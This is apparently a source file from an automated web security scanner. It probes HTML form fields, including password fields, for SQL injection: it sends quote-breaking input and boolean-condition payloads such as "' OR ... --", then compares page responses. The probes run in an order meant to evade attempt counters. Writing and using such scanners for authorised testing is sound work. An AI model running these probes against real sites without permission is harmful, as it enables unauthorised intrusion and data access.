/** SQL in what is typed into a form: a quote that breaks the statement, or a condition that decides what is found. */
import { makeMarker } from '../bind/random.ts';
import { endpointOf } from '../bind/site/detail.ts';
import type { Exchanged } from '../checks/session.ts';
import type { Control } from '../html/page.ts';
import type { AttackContext, Weakness } from './attack.ts';
import { isTyped, openForm, send } from './forms.ts';
import { brokenByQuote, FAILS, HOLDS, QUOTED, weakness } from './sql-verdict.ts';
import type { SurfaceForm } from './surface.ts';

const MOST_FIELDS = 8;
const CONDITIONS = ["' OR %s -- ", "' OR '1'='1' AND %s -- ", '" OR %s -- '];

type Attempt = (text: string) => Promise<Exchanged | null>;

export async function sqlInForm(context: AttackContext, target: SurfaceForm): Promise<Weakness[]> {
  const found: Weakness[] = [];
  const isPassword = ({ type, name }: Control): boolean => type === 'password' && name !== '';
  const fields = target.form.controls.filter((one) => isTyped(one) || isPassword(one)).slice(0, MOST_FIELDS);
  for (const { name } of fields) {
    const attempt: Attempt = async (text) => {
      const opened = await openForm(context, target);
      return opened === null ? null : (await send(opened, { ...opened.values, [name]: text })).first;
    };
    const said = (await byQuote(attempt)) ?? (await byCondition(attempt, makeMarker(context.random)));
    if (said === null) continue;
    const parameter = { name, path: target.form.action.split('?')[0] ?? target.path };
    found.push(weakness(parameter, said.proof, await endpointOf(context.tools, parameter.path), said));
  }
  return found;
}

interface Said {
  proof: Exchanged;
  expected: string;
  actual: string;
}

async function byQuote(attempt: Attempt): Promise<Said | null> {
  const proof = await brokenByQuote(attempt);
  return proof === null ? null : { proof, ...QUOTED };
}

/**
 * Only where the form looks something up: what saves leads on to another page, whatever is typed. The word is a new one,
 * which no form before has saved.
 */
async function byCondition(attempt: Attempt, word: string): Promise<Said | null> {
  const plain = await attempt(word);
  if (plain === null || plain.reply.status !== 200) return null;
  const nothing = seen(plain, word);
  for (const condition of CONDITIONS) {
    const asked = async (which: string): Promise<{ answer: Exchanged; shown: string } | null> => {
      const text = `${word}${condition.replace('%s', which)}`;
      const answer = await attempt(text);
      return answer === null ? null : { answer, shown: seen(answer, text) };
    };
    const right = await asked(HOLDS[0]);
    if (right === null || right.shown === nothing || (right.answer.reply.status ?? 500) >= 400) continue;
    // In an order that no counter of attempts follows.
    const isAsBefore = async ([which, wanted]: readonly [string, string]): Promise<boolean> =>
      (await asked(which))?.shown === wanted;
    const order = [
      [FAILS[0], nothing],
      [FAILS[1], nothing],
      [HOLDS[1], right.shown],
      [FAILS[0], nothing],
      [HOLDS[0], right.shown],
      [HOLDS[1], right.shown],
      [FAILS[1], nothing],
    ] as const;
    let steady = true;
    for (const one of order) steady &&= await isAsBefore(one);
    if (steady)
      return {
        proof: right.answer,
        expected: 'both texts are looked for as they are, and nothing is found',
        actual: `with OR ${HOLDS[0]} behind the text something is found, with OR ${FAILS[0]} nothing is`,
      };
  }
  return null;
}

/** The answer without what was typed and without what is new each time. */
function seen({ reply }: Exchanged, text: string): string {
  const escaped = text.replaceAll('&', '&amp;').replaceAll("'", '&#x27;').replaceAll('"', '&quot;');
  const body = [text, escaped, escaped.replaceAll('&#x27;', '&#39;')].reduce(
    (rest, one) => rest.replaceAll(one, ''),
    reply.body,
  );
  const steady = body
    .replace(/(csrf\w*["'][^>]{0,40}value=["'])[^"']*/gi, '$1')
    .replace(/nonce="[^"]*"/g, '');
  return `${reply.status} ${steady}`;
}
